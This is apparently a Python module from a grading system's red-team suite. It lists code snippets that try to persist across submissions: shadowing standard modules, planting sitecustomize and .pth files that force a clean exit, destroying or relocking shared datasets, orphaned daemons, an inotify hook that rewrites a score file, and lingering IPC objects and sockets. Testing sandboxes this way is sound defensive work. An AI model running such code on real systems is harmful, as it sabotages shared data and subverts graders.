"""Whatever may reach the next submission: files, processes, locks, and names that the kernel keeps."""

from grader.redteam.technique import Family, Technique
from grader.redteam.techniques.syscalls import SYSCALLS


def lingers(name: str, source: str, *cells: str, own_loss: bool = False) -> Technique:
    """Return a technique that means the submission after it."""
    return Technique(name=name, family=Family.LINGERS, source=source, cells=cells, own_loss=own_loss)


WRITABLE = """
import os

def writable(tops=("/", "/tmp", "/home/student", "/dev/shm", "/dev/mqueue", "/datasets", "/own/grader", "/site", "/var/tmp", ".", "/etc", "/proc/sys")):
    return [top for top in tops if os.path.isdir(top)]

def leave(name, text, tops=None):
    for top in tops or writable():
        try:
            with open(os.path.join(top, name), "w") as file:
                file.write(text)
            os.chmod(os.path.join(top, name), 0o6777)
        except OSError:
            pass
"""

TECHNIQUES: tuple[Technique, ...] = (
    lingers(
        "leave files in every writable folder",
        "attacks 29",
        WRITABLE + "leave('left', 'behind')\nleave('.hidden', 'x' * 1000)",
    ),
    lingers(
        "shadow keras, numpy and the standard library in the working folder",
        "attacks 11",
        WRITABLE + "for name in ('keras', 'numpy', 'tensorflow', 'json', 'random', 'double', 'six'):\n"
        "    leave(name + '.py', 'raise SystemExit(0)', ['.', '/tmp', '/own', '/site/0', '/own/grader'])",
    ),
    lingers(
        "plant conftest, sitecustomize, usercustomize and .pth files",
        "attacks 11",
        WRITABLE + "import site, sys\n"
        "for name in ('conftest.py', 'sitecustomize.py', 'usercustomize.py', 'evil.pth', 'pytest.ini', 'setup.cfg', '.pdbrc', 'pyvenv.cfg'):\n"
        "    leave(name, 'import os; os._exit(0)', ['.', *sys.path[:6], site.USER_SITE or '.', os.path.expanduser('~')])",
    ),
    lingers(
        "plant programs and IPython start-up files",
        "attacks 11",
        WRITABLE + "os.makedirs('/tmp/ipython/profile_default/startup', exist_ok=True)\n"
        "leave('00.py', 'import os; os._exit(0)', ['/tmp/ipython/profile_default/startup'])\n"
        "for name in ('python', 'python3', 'sh', 'git', 'ldconfig'):\n    leave(name, '#!/bin/sh\\nexit 0\\n', ['/usr/bin', '/bin', '.', '/tmp'])\n"
        "os.environ.update(PATH='/tmp', LD_PRELOAD='/tmp/evil.so', PYTHONSTARTUP='/tmp/00.py', PYTHONPATH='/tmp', TF_CPP_MIN_LOG_LEVEL='0', HOME='/tmp')",
    ),
    lingers(
        "change rights, owners, times and attributes of shared files",
        "attacks 14",
        """
import glob, os

for path in ["/datasets", *glob.glob("/datasets/*"), *glob.glob("/datasets/*/*"), "/own/grader/sandbox", "/", "/tmp", "/home/student", "/dev/null", "/dev/shm"]:
    for change in (lambda: os.chmod(path, 0), lambda: os.chown(path, 0, 0), lambda: os.utime(path, (0, 0)), lambda: os.truncate(path, 0),
                   lambda: os.setxattr(path, "user.answer", b"42"), lambda: os.rename(path, path + ".old"), lambda: os.unlink(path)):
        try:
            change()
        except OSError:
            pass
for descriptor in (0, 1, 2):
    try:
        os.fchmod(descriptor, 0)
    except OSError:
        pass
""",
    ),
    lingers(
        "lock and lease the shared datasets",
        "beyond: flock, leases",
        """
import fcntl, glob, os

HELD = []
for path in glob.glob("datasets/*/*") + ["/own/grader/__init__.py", "/dev/null", "/usr/bin/env"]:
    try:
        descriptor = os.open(path, os.O_RDONLY)
        HELD.append(descriptor)
        fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
        fcntl.fcntl(descriptor, 1024, fcntl.F_RDLCK)
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    os.execvp("sleep", ["sleep", "600"])
""",
    ),
    lingers(
        "start daemons that leave their session",
        "attacks 13",
        """
import os, subprocess, time

for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setpgid(0, 0)
            time.sleep(600)
        os._exit(0)
subprocess.Popen(["sh", "-c", "trap '' HUP TERM INT; while :; do sleep 1; done"], start_new_session=True)
""",
    ),
    lingers(
        "leave threads, timers and pools running",
        "attacks 13",
        """
import concurrent.futures, ctypes, signal, threading, time

for _ in range(5):
    threading.Thread(target=time.sleep, args=(600,), daemon=False).start()
concurrent.futures.ThreadPoolExecutor(3).submit(time.sleep, 600)
threading.Timer(1, print).start()
signal.setitimer(signal.ITIMER_VIRTUAL, 0.1, 0.1)
signal.alarm(1)
""",
    ),
    lingers(
        "wait by inotify for files of the grader",
        "attacks 13",
        """
import ctypes, os

watcher = ctypes.CDLL(None).inotify_init()
for place in (b"/tmp", b"/home/student", b"/datasets", b"/dev/shm", b"/", b"/own/grader"):
    ctypes.CDLL(None).inotify_add_watch(watcher, place, 0xFFF)
if os.fork() == 0:
    try:
        os.setsid()
        os.read(watcher, 4096)
        open("/tmp/rewritten", "w").write("100")
    finally:
        os._exit(0)
""",
    ),
    lingers(
        "leave shared memory, semaphores and queues with names",
        "beyond: System V and POSIX IPC",
        SYSCALLS
        + """
from multiprocessing import resource_tracker, shared_memory

resource_tracker.register = lambda *_: None
one = shared_memory.SharedMemory("left", create=True, size=4096)
one.buf[:4] = b"left"
for number in range(1, 20):
    syscall("shmget", number, 4096, 0o1666)
    syscall("semget", number, 1, 0o1666)
    queue = syscall("msgget", number, 0o1666)
    syscall("msgsnd", queue, ctypes.create_string_buffer(b"\\x01" + bytes(31)), 16, 0o4000)
LIBC.sem_open(b"/left", 0o100, 0o666, 1)
LIBC.mq_open(b"/left", 0o102, 0o666, None)
""",
    ),
    lingers(
        "leave sockets and FIFOs with names",
        "beyond: rendezvous between submissions",
        """
import os, socket, threading

KEPT = []
for name in ("\\0left", "/tmp/left.sock", "left.sock", "/dev/shm/left.sock"):
    end = socket.socket(socket.AF_UNIX)
    end.bind(name)
    end.listen()
    KEPT.append(end)
for family, address in ((socket.AF_INET, ("0.0.0.0", 47392)), (socket.AF_INET6, ("::", 47393))):
    try:
        end = socket.socket(family)
        end.bind(address)
        end.listen()
        KEPT.append(end)
    except OSError:
        pass
os.mkfifo("fifo")
os.mkfifo("/tmp/fifo")
if os.fork() == 0:
    threading.Event().wait()
""",
    ),
    lingers(
        "leave keys in the kernel's keyrings",
        "beyond: keyctl",
        SYSCALLS
        + """
for ring in (-1, -2, -3, -4, -5):
    key = syscall("add_key", b"user", b"left", b"behind", 6, ring)
    syscall("keyctl", 5, key, 0x3F3F3F3F)
    syscall("keyctl", 0, ring, 1)
syscall("keyctl", 1, b"_ses.left")
""",
    ),
)
